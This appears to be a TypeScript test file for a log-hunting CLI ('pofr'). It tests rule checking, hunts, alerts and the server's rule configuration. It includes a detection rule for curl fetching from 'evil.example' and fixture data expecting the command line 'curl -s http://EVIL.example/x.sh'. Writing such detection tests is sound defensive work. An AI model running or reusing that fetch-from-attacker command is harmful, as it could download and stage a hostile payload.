import assert from 'node:assert/strict';
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, test } from 'node:test';
import { type CompiledRule, compileRule, parseRule, recordAlerts } from '../../src/detect/index.js';
import {
  openStore,
  readConfiguredRules,
  readStoreConfig,
  writeConfiguredRules,
} from '../../src/store/index.js';
import { huntFixture } from '../detect/detect-fixture.js';
import { dataDirEngine, initTestDataDir } from '../helpers/data-dir-engine.js';

/** The first keys of a hunt match and of an alert, as CLI.md fixes them: scripts read them by name. */
const MATCH_KEYS = ['time', 'host', 'pid', 'rule_id', 'title', 'level', 'author', 'batch_seq', 'batch_hash'];

import { jsonLines, pofr } from '../helpers/pofr-cli.js';

const GOOD = `title: Curl fetching from the evil host
id: 11111111-1111-4111-8111-111111111111
author: Jane Analyst
level: medium
logsource: { product: linux, category: process_creation }
detection:
  sel:
    Image|endswith: /curl
    CommandLine|contains: evil.example
  condition: sel
`;
const UNSUPPORTED = GOOD.replace('11111111-1111', '22222222-2222').replace('Image|endswith', 'LogonId');
const BROKEN =
  'title: broken\nlogsource:\n  category: process_creation\ndetection:\n  sel: [a, b\n  condition: sel\n';

let dir = '';
let hashes: string[] = [];
let liveHashes: string[] = [];

before(async () => {
  dir = mkdtempSync(join(tmpdir(), 'pofr-hunt-cli-'));
  const store = await openStore(await initTestDataDir(join(dir, 'data')));
  try {
    hashes = (await huntFixture(store)).hashes;
  } finally {
    await store.close();
  }
  // A store whose batches went through live detection, as `pofr server run --rules` ingests them.
  const live = await openStore(await initTestDataDir(join(dir, 'live')));
  try {
    const rule = compileRule(parseRule(GOOD, 'curl.yml'), live.caps) as CompiledRule;
    liveHashes = (await huntFixture(live, (trx, b) => recordAlerts(trx, [rule], b).then(() => {}))).hashes;
  } finally {
    await live.close();
  }
  mkdirSync(join(dir, 'good'));
  writeFileSync(join(dir, 'good', 'curl.yml'), GOOD);
  writeFileSync(join(dir, 'good', 'logon.yml'), UNSUPPORTED);
  mkdirSync(join(dir, 'bad'));
  writeFileSync(join(dir, 'bad', 'curl.yml'), GOOD);
  writeFileSync(join(dir, 'bad', 'broken.yml'), BROKEN);
});

after(() => rmSync(dir, { recursive: true, force: true }));

test('pofr rules check lists each rule with its status and exits 1 only on an error', async () => {
  const good = await pofr(['rules', 'check', join(dir, 'good'), '--json']);
  assert.equal(good.code, 0, good.stderr);
  const rows = jsonLines(good.stdout);
  assert.deepEqual(
    rows.map((r) => [r.file, r.status]),
    [
      ['curl.yml', 'ok'],
      ['logon.yml', 'unsupported'],
    ],
  );
  assert.deepEqual(Object.keys(rows[0]), ['file', 'id', 'title', 'status', 'reason']);
  assert.match(String(rows[1].reason), /LogonId/);
  const bad = await pofr(['rules', 'check', join(dir, 'bad'), '--json']);
  assert.equal(bad.code, 1, bad.stderr);
  const broken = jsonLines(bad.stdout).find((r) => r.file === 'broken.yml');
  assert.equal(broken?.status, 'error');
  assert.match(String(broken?.reason), /^broken\.yml:\d+:\d+: /);
  const bundled = await pofr(['rules', 'check', 'bundled']);
  assert.equal(bundled.code, 0, bundled.stderr);
  assert.match(bundled.stderr, /135 rules: 133 ok, 2 unsupported, 0 error/);
});

test('pofr hunt --json prints the contract keys, the matched row and its batch', async () => {
  const r = await pofr(['hunt', '--data', join(dir, 'data'), '--rules', join(dir, 'good'), '--json']);
  assert.equal(r.code, 0, r.stderr);
  assert.match(r.stderr, /1 rule\(s\) cannot run/);
  const [alert, ...rest] = jsonLines(r.stdout);
  assert.equal(rest.length, 0);
  assert.deepEqual(Object.keys(alert).slice(0, 9), MATCH_KEYS);
  assert.equal(alert.author, 'Jane Analyst');
  assert.equal(alert.pid, 101);
  assert.equal(alert.cmdline, 'curl -s http://EVIL.example/x.sh');
  assert.deepEqual([alert.batch_seq, alert.batch_hash], [1, hashes[0]]);
  // proc() starts a process at T0 + start_ticks × 10 ms: curl has start_ticks 6.
  assert.equal(alert.time, '2026-01-01T00:00:00.060000Z');
});

test('pofr hunt runs the bundled rules by default and refuses a rule set with an invalid file', async () => {
  const r = await pofr(['hunt', '--data', join(dir, 'data'), '--json']);
  assert.equal(r.code, 0, r.stderr);
  const titles = jsonLines(r.stdout).map((a) => a.title);
  assert.ok(titles.includes('Curl Usage on Linux'), titles.join('; '));
  const bad = await pofr(['hunt', '--data', join(dir, 'data'), '--rules', join(dir, 'bad')]);
  assert.equal(bad.code, 1);
  assert.match(bad.stderr, /broken\.yml:\d+:\d+/);
  const none = await pofr([
    'hunt',
    '--data',
    join(dir, 'data'),
    '--rules',
    join(dir, 'good'),
    '--host',
    'nosuch',
  ]);
  assert.notEqual(none.code, 0);
});

test('pofr alerts --json prints the alerts written at ingest, keyed as hunt', async () => {
  const r = await pofr(['alerts', '--data', join(dir, 'live'), '--json']);
  assert.equal(r.code, 0, r.stderr);
  const rows = jsonLines(r.stdout);
  assert.equal(rows.length, 1);
  assert.deepEqual(Object.keys(rows[0]).slice(0, 9), MATCH_KEYS);
  assert.deepEqual(
    [rows[0].rule_id, rows[0].author, rows[0].pid, rows[0].batch_seq, rows[0].batch_hash, rows[0].cmdline],
    [
      '11111111-1111-4111-8111-111111111111',
      'Jane Analyst',
      101,
      1,
      liveHashes[0],
      'curl -s http://EVIL.example/x.sh',
    ],
  );
  const none = await pofr(['alerts', '--data', join(dir, 'data'), '--json']);
  assert.equal(none.code, 0, none.stderr);
  assert.equal(none.stdout, '');
});

test('pofr server run --rules refuses to start on an invalid rule file, naming file and line', async () => {
  const r = await pofr([
    'server',
    'run',
    '--data',
    join(dir, 'data'),
    '--listen',
    '127.0.0.1:0',
    '--no-rdns',
    '--rules',
    join(dir, 'bad'),
  ]);
  assert.equal(r.code, 1, r.stderr);
  assert.match(r.stderr, /broken\.yml:\d+:\d+/);
});

test('pofr server init --rules records the rules every ingest path runs; an invalid file is refused; --no-rules forgets them', async () => {
  const data = join(dir, 'configured');
  const config = () => JSON.parse(readFileSync(join(data, 'config.json'), 'utf8')) as { rules?: string[] };
  const bad = await pofr(['server', 'init', '--data', data, '--rules', join(dir, 'bad')]);
  assert.equal(bad.code, 1, bad.stderr);
  assert.match(bad.stderr, /broken\.yml:\d+:\d+/);
  assert.equal(config().rules, undefined, 'nothing recorded');
  const good = await pofr([
    'server',
    'init',
    '--data',
    data,
    '--rules',
    join(dir, 'good'),
    '--rules',
    'bundled',
  ]);
  assert.equal(good.code, 0, good.stderr);
  assert.match(good.stderr, /\d+ rules evaluated on every batch/);
  assert.deepEqual(config().rules, [join(dir, 'good'), 'bundled']);
  assert.deepEqual(readConfiguredRules(data), [join(dir, 'good'), 'bundled']);
  // `server run` without --rules runs what is recorded: a rule set broken since is refused at start.
  writeConfiguredRules(data, [join(dir, 'bad')]);
  const run = await pofr(['server', 'run', '--data', data, '--listen', '127.0.0.1:0', '--no-rdns']);
  assert.equal(run.code, 1, run.stderr);
  assert.match(run.stderr, /broken\.yml:\d+:\d+/);
  assert.equal((await pofr(['server', 'init', '--data', data, '--no-rules'])).code, 0);
  assert.equal(config().rules, undefined);
  assert.equal(readStoreConfig(data).kind, dataDirEngine(), 'the store is untouched');
});
